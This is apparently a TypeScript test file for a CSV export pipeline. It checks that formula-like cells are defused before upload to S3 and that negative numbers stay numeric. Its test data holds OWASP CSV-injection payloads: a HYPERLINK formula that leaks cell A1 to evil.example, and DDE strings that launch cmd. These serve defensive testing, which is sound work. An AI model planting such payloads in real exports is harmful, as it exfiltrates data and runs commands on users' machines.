// Clean exports are safe to open in a spreadsheet: a cell that would run as a formula (OWASP "CSV
// Injection") reaches S3 defused, numbers stay numbers, and --raw-cells / S3_RAW_CELLS keep cells as they are.
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../src/db/tables.ts';
import { loadAndValidate } from '../../src/jobs/load-and-validate.ts';
import { isFormulaLike } from '../../src/s3/csv-cells.ts';
import { createS3Client } from '../../src/s3/s3-client.ts';
import { readS3Config } from '../../src/s3/s3-config.ts';
import { runUpload } from '../../src/s3/upload-run.ts';
import { migratedDatabases } from '../helpers/database.ts';
import { DIALECTS } from '../helpers/dialects.ts';
import { S3_CREDENTIALS, type S3TestServer, startS3 } from '../helpers/s3-server.ts';

const BUCKET = 'celdas';
/** Payloads from OWASP's CSV Injection page, one per dangerous first character. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0";
const PLUS_DDE = "+cmd|' /C notepad'!A0";
const MINUS_DDE = "-2+3+cmd|' /C calc'!A0";
const TAB = '\t=1+1';
const CR = '\r=1+1';

describe.each(DIALECTS)('on %s', (dialect) => {
  const newDb = migratedDatabases(dialect);
  let s3: S3TestServer;
  let db: Kysely<Database>;

  beforeAll(async () => {
    Object.assign(process.env, S3_CREDENTIALS);
    s3 = await startS3([BUCKET]);
    ({ db } = await newDb());
    await loadAndValidate(db, { dataDir: 'data', asOf: '2025-01-01', origin: 'test' });
    // Cells as a hostile export could bring them (the load keeps names, emails and raw lines as text).
    const [p1, p2] = await db.selectFrom('productos').select('producto_id').orderBy('producto_id').limit(2).execute();
    await db.updateTable('productos').set({ nombre: HYPERLINK, precio: -5.25 }).where('producto_id', '=', p1!.producto_id).execute();
    await db.updateTable('productos').set({ nombre: TAB }).where('producto_id', '=', p2!.producto_id).execute();
    const [c1, c2] = await db.selectFrom('clientes').select('cliente_id').orderBy('cliente_id').limit(2).execute();
    await db.updateTable('clientes').set({ nombre: AT_SUM, email: PLUS_DDE }).where('cliente_id', '=', c1!.cliente_id).execute();
    await db.updateTable('clientes').set({ nombre: CR }).where('cliente_id', '=', c2!.cliente_id).execute();
    const q = await db.selectFrom('cuarentena').select('id').orderBy('id').executeTakeFirstOrThrow();
    await db.updateTable('cuarentena').set({ contenido: MINUS_DDE }).where('id', '=', q.id).execute();
    const v = await db.selectFrom('ventas').select('venta_id').orderBy('venta_id').executeTakeFirstOrThrow();
    await db.updateTable('ventas').set({ cantidad: -5, precio_unitario: -5.25 }).where('venta_id', '=', v.venta_id).execute();
  });
  afterAll(async () => s3.close());

  /** Uploads the clean exports under `prefix` and returns a function that downloads one, as text. */
  async function upload(prefix: string, env: Record<string, string> = {}) {
    const config = readS3Config({
      S3_BUCKET: BUCKET,
      AWS_REGION: 'us-east-1',
      S3_ENDPOINT: s3.endpoint,
      S3_FORCE_PATH_STYLE: 'true',
      S3_PREFIX: prefix,
      ...env,
    });
    const client = createS3Client(config);
    const run = await runUpload(db, client, config, {
      what: 'clean',
      gzip: false,
      dryRun: false,
      dataDir: 'data',
      clock: () => new Date('2026-11-30T00:00:00Z'),
    });
    expect(run.status).toBe('ok');
    return async (table: string) => {
      const out = await client.send(new GetObjectCommand({ Bucket: BUCKET, Key: `${prefix}/clean/fecha=2026-11-30/${table}.csv` }));
      const text = await out.Body!.transformToString('utf8');
      return { text, rows: parse(text, { columns: true }) as Array<Record<string, string>> };
    };
  }

  it('defuses every cell that starts with =, +, -, @, tab or CR: a single quote first, and the field quoted', async () => {
    const download = await upload('seguro');
    const productos = await download('productos');
    expect(productos.rows.map((r) => r.nombre)).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${TAB}`]));
    expect(productos.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
    expect(productos.text).toContain(`"'\t=1+1"`);
    const clientes = await download('clientes');
    expect(clientes.rows.map((r) => r.nombre)).toEqual(expect.arrayContaining([`'${AT_SUM}`, `'${CR}`]));
    expect(clientes.rows.map((r) => r.email)).toContain(`'${PLUS_DDE}`);
    const cuarentena = await download('cuarentena');
    expect(cuarentena.rows.map((r) => r.contenido)).toContain(`'${MINUS_DDE}`);
    // No cell of any export is left for a spreadsheet to evaluate.
    for (const table of ['productos', 'categorias', 'clientes', 'ciudades', 'ventas', 'inventario', 'cuarentena']) {
      const { rows } = await download(table);
      const live = rows.flatMap((r) => Object.values(r)).filter((cell) => isFormulaLike(cell));
      expect(live, table).toEqual([]);
    }
  });

  it('writes plain negative numbers as numbers, not defused', async () => {
    const download = await upload('numeros');
    const ventas = await download('ventas');
    expect(ventas.rows[0]).toMatchObject({ cantidad: '-5', precio_unitario: '-5.25' });
    expect(ventas.text.split('\n')[1]).toMatch(/,-5,-5\.25,/);
    const productos = await download('productos');
    expect(productos.rows.find((r) => r.nombre === `'${HYPERLINK}`)?.precio).toBe('-5.25');
  });

  it('keeps every cell as it is with S3_RAW_CELLS=true (what --raw-cells sets)', async () => {
    const download = await upload('crudo', { S3_RAW_CELLS: 'true' });
    expect((await download('productos')).rows.map((r) => r.nombre)).toEqual(expect.arrayContaining([HYPERLINK, TAB]));
    expect((await download('clientes')).rows.map((r) => r.email)).toContain(PLUS_DDE);
    expect((await download('cuarentena')).rows.map((r) => r.contenido)).toContain(MINUS_DDE);
  });
});

describe('isFormulaLike', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@A1', '\t=1', '\r=1', '-', '+5', '-5,25', '- 5', '-5e', '-0x10', '-Infinity'])('defuses %j', (cell) => {
    expect(isFormulaLike(cell)).toBe(true);
  });
  it.each(['-5', '-5.25', '-0.5', '-.5', '-5.', '-1e-7', '-2E+10', '5', 'Ropa', ' =1+1', 'a=1', ''])('leaves %j as it is', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
  });
});
